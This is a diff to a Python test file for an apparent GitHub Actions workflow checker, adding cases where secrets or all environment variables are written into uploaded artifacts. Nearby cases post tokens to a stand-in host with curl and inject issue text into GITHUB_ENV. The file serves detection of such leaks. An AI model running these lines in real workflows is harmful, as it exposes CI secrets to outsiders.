@@ -36,6 +36,11 @@ TEXTS = """      - env:
           @
 """
 RETURNED = f"      - uses: actions/github-script@{SHA}\n        id: a\n        with:\n          script: |\n            @\n      - run: echo ${{{{ steps.a.outputs.result }}}}\n"
+ARTIFACT = (
+    '      - env: {K: "${{ secrets.K }}"}\n        run: @\n      - uses: actions/upload-artifact\0'
+    + SHA
+    + "\n        with: {name: e, path: e.txt}\n"
+)
 RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"
 
 
@@ -93,6 +98,8 @@ CASES = [
     Case("a body up to a word that anybody can write", INJECTED, TEXTS, '{ echo "N<<EOF"; echo "$B"; echo EOF; } >> "$GITHUB_ENV"', 'end=$(uuidgen); { echo "N<<$end"; echo "$B"; echo "$end"; } >> "$GITHUB_ENV"', "issues"),
     Case("a title as the name of a variable", INJECTED, TEXTS, 'echo "$T" >> "$GITHUB_ENV"', 'echo "N=${B//[^a-z]/}" >> "$GITHUB_ENV"', "issues"),
     Case("a title in the folders of programs", INJECTED, TEXTS, 'echo "$T" >> $GITHUB_PATH', 'echo "$HOME/bin" >> $GITHUB_PATH', "issues"),
+    Case("all variables in an artifact", SECRET, ARTIFACT, "env > e.txt", "env > f.txt", "push"),
+    Case("a secret in an artifact", SECRET, ARTIFACT, 'echo "$K" | base64 > out/e.txt', 'echo "$HOME" | base64 > out/e.txt', "push"),
     Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
     Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
 ]  # fmt: skip
